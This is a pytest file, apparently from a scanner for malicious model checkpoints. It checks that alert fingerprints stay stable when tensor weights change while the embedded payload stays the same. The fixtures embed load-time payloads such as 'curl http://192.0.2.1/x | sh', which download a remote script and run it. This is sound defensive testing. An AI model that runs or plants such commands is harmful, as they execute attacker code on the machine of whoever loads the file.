"""An alert of today is the one of yesterday, though every byte of the checkpoint has changed."""

import json

import pytest

from scanner.report import sarif
from tests.hostile.scanning import scan
from tests.report import scans
from tools.demo import checkpoint


def prints(data: bytes, name: str) -> list[str]:
    """The fingerprints of a real scan's results."""
    report = scan(data, name)
    results = json.loads(sarif.render(scans.scan(report)))["runs"][0]["results"]
    assert results
    return [result["partialFingerprints"]["primaryLocationLineHash"] for result in results]


FIRST = checkpoint({"weight": [1.0, 2.0]}, on_load="curl http://192.0.2.1/x | sh")


@pytest.mark.parametrize(
    "tensors",
    [
        {"weight": [3.5, -1.25]},
        {"weight": [0.5] * 5_000},
        {"more": [0.0] * 9, "weight": [1.0], "bias": [0.25] * 300},
    ],
    ids=["trained further", "larger", "other layers"],
)
def test_the_same_payload_after_training_is_the_same_alert(tensors: dict[str, list[float]]) -> None:
    again = checkpoint(tensors, on_load="curl http://192.0.2.1/x | sh")
    assert again != FIRST
    assert prints(again, "a.pt") == prints(FIRST, "a.pt")


def test_another_payload_is_another_alert() -> None:
    other = checkpoint({"weight": [1.0, 2.0]}, on_load="curl http://192.0.2.2/y | sh")
    assert not set(prints(other, "a.pt")) & set(prints(FIRST, "a.pt"))
